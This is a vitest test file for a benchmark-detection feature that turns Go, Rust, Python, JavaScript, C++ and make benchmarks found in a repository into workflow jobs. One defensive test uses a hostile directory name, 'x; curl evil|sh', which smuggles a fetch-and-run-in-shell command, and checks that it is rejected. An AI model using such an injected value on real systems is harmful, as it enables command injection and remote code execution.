/** Which benchmarks `init` finds in a repository, and what it makes of them. */
import { describe, expect, it } from 'vitest';
import { findBenchmarks } from '../../src/recipe/find.ts';
import { usualSizes } from '../../src/recipe/job.ts';
import { trees } from './trees.ts';

const found = (tree: Readonly<Record<string, string>>) =>
  findBenchmarks({ files: Object.keys(tree), read: async (file) => tree[file] ?? '' });

const below = (directory: string, tree: Readonly<Record<string, string>> = {}) =>
  Object.fromEntries(Object.entries(tree).map(([file, text]) => [`${directory}/${file}`, text]));

describe('of one tool', () => {
  it.each([
    ['go', 'go test -bench', '-- go test -bench=. -benchmem ./list ./sum'],
    ['rust', 'criterion', '-- cargo bench --bench sums'],
    ['python', 'pytest-benchmark', '-- python -m pytest tests/test_sums.py'],
    ['vitest', 'vitest bench', '-- npx vitest bench'],
    ['tinybench', 'tinybench', '-- npm run --silent bench'],
    ['mitata', 'mitata', '-- node perf/all.mjs'],
    ['make', 'make bench', 'make --silent bench'],
  ])('%s', async (name, tool, run) => {
    const { jobs, unread } = await found(trees[name] ?? {});
    expect(jobs.map((of) => [of.tool, of.run])).toEqual([[tool, run]]);
    expect(unread).toEqual([]);
  });

  it('Google Benchmark is built for each side, and takes a filter', async () => {
    const { jobs } = await found(trees.cpp ?? {});
    expect(jobs.map((of) => of.tool)).toEqual(['Google Benchmark']);
    expect(jobs[0]?.setup).toContain('cmake --build "$FLAMEGATE_BIN/build" --target sums');
    expect(jobs[0]?.run).toContain('--benchmark_filter="$FLAMEGATE_FILTER"');
    expect(jobs[0]?.install).toContain('libbenchmark-dev');
  });

  it('packages of Go each get their profile, because -cpuprofile takes one package', async () => {
    const { jobs } = await found(trees.go ?? {});
    const script = jobs[0]?.bench?.(usualSizes);
    expect(script).toContain('for package in list sum; do');
    expect(script).not.toContain('other');
    expect(script).not.toContain('none');
  });

  it('the version of vitest and the lock file say how it is run', async () => {
    const { jobs } = await found(trees.vitest ?? {});
    expect(jobs[0]?.bench?.(usualSizes)).toContain('--outputJson=bench-$pass.json');
    expect(jobs[0]?.install).toContain('pnpm install --frozen-lockfile');
    const newer = {
      ...trees.vitest,
      'package.json': '{ "devDependencies": { "vitest": "~5.1" } }',
    };
    expect((await found(newer)).jobs[0]?.bench?.(usualSizes)).toContain(
      '--reporter=json --outputFile=bench-$pass.json',
    );
  });
});

describe('of several', () => {
  it('each tool is a job with a name of its own, and make is none of them', async () => {
    const { jobs } = await found({ ...trees.go, ...trees.python, ...trees.make });
    expect(jobs.map((of) => of.name)).toEqual(['go', 'python']);
  });

  it('below the top no command is given where the output names its place', async () => {
    const { jobs } = await found({ ...below('api', trees.go), ...below('web', trees.tinybench) });
    expect(jobs.map((of) => [of.directory, of.run])).toEqual([
      ['api', null],
      ['web', 'cd web && npm run --silent bench'],
    ]);
  });
});

describe('what is not read', () => {
  it.each([
    ['divan', 'Cargo.toml', '[dev-dependencies]\ndivan = "0.1"\n'],
    ['Catch2', 'test/CMakeLists.txt', 'target_link_libraries(t Catch2::Catch2)\n'],
    ['JMH', 'build.gradle.kts', 'plugins { id("me.champeau.jmh") }\n'],
  ])('%s is told and left alone', async (tool, file, text) => {
    expect(await found({ [file]: text })).toEqual({ jobs: [], unread: [{ tool, file }] });
  });

  it('names that would need quotes are no part of a workflow', async () => {
    const hostile = 'x; curl evil|sh';
    const tree = {
      'go.mod': 'module a\n',
      [`${hostile}/a_test.go`]: trees.go?.['sum/sum_test.go'] ?? '',
    };
    expect((await found(tree)).jobs).toEqual([]);
  });

  it('an empty repository has nothing', async () => {
    expect(await found({ 'README.md': 'go test -bench' })).toEqual({ jobs: [], unread: [] });
  });
});
